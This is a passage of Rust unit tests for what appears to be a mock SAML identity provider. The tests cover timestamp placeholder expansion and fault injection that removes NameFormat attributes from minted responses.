            assertion_id: "_a".into(),
            session_index: "_s".into(),
            requested_attributes: None,
            conditions_lifetime: time::Duration::hours(1),
            confirmation_lifetime: time::Duration::minutes(5),
        };
        assert_eq!(
            expand_placeholders("{now-10m}", &c).unwrap(),
            "2026-01-01T11:50:00Z"
        );
        assert_eq!(
            expand_placeholders("x{acs}y{sp}{request_id}", &c).unwrap(),
            "xAySR"
        );
        assert_eq!(
            expand_placeholders("{now+1d}", &c).unwrap(),
            "2026-01-02T12:00:00Z"
        );
        assert!(expand_placeholders("{nope}", &c).is_err());
        assert!(expand_placeholders("{now+5q}", &c).is_err());
        assert!(expand_placeholders("{now", &c).is_err());
    }

    fn ctx() -> ModelContext {
        ModelContext {
            idp_entity_id: "https://idp.example".into(),
            sp_entity_id: "https://sp.example".into(),
            acs_url: "https://sp.example/acs".into(),
            in_response_to: Some("_req".into()),
            now: time::macros::datetime!(2026-01-01 12:00:00.987 UTC),
            response_id: "_r".into(),
            assertion_id: "_a".into(),
            session_index: "_s".into(),
            requested_attributes: None,
            conditions_lifetime: time::Duration::hours(1),
            confirmation_lifetime: time::Duration::minutes(5),
        }
    }

    #[test]
    fn placeholder_fractions_replace_the_clock_fraction() {
        let c = ctx();
        assert_eq!(
            expand_placeholders("{now}", &c).unwrap(),
            "2026-01-01T12:00:00.987Z"
        );
        assert_eq!(
            expand_placeholders("{now.123}", &c).unwrap(),
            "2026-01-01T11:59:59.123Z"
        );
        assert_eq!(
            expand_placeholders("{now-5m.1234567}", &c).unwrap(),
            "2026-01-01T11:54:59.1234567Z"
        );
        assert!(expand_placeholders("{now.}", &c).is_err());
        assert!(expand_placeholders("{now.12a}", &c).is_err());
        assert!(expand_placeholders("{now.1234567890}", &c).is_err());
        assert!(expand_placeholders("{acs.1}", &c).is_err());
    }

    #[test]
    fn remove_name_format_drops_only_the_named_attribute_or_all() {
        let ids = IdentityStore::builtin();
        let keys = SigningKeys::mock().unwrap();
        let mint_with = |faults: Vec<Fault>| {
            let plan = FaultPlan::new(faults.into_iter().chain([Fault::NoEncryption]).collect());
            let input = MintInput {
                ctx: ctx(),
                identity: ids.get("anna").unwrap(),
                loa: Loa::Substantial,
                identities: &ids,
                sp_encryption_cert: None,
                encryption: super::super::xmlsec::EncryptionAlgorithms::nemlogin_default(),
                plan: &plan,
                keys: &keys,
                fetch_recorder_url: None,
            };
            let b = super::super::xmlsec::Bergshamra;
            mint(&input, &b, &b).unwrap().response_xml
        };
        let loa = format!(r#"<saml:Attribute Name="{}" NameFormat="#, ns::attr::LOA);
        let spec = format!(
            r#"<saml:Attribute Name="{}" NameFormat="#,
            ns::attr::SPEC_VERSION
        );
        let one = mint_with(vec![Fault::RemoveNameFormat {
            name: Some(ns::attr::LOA.into()),
        }]);
        assert!(!one.contains(&loa) && one.contains(&spec), "{one}");
        let all = mint_with(vec![Fault::RemoveNameFormat { name: None }]);
        assert!(!all.contains("NameFormat="), "{all}");
        assert!(all.contains(&format!(r#"<saml:Attribute Name="{}""#, ns::attr::LOA)));
    }
}
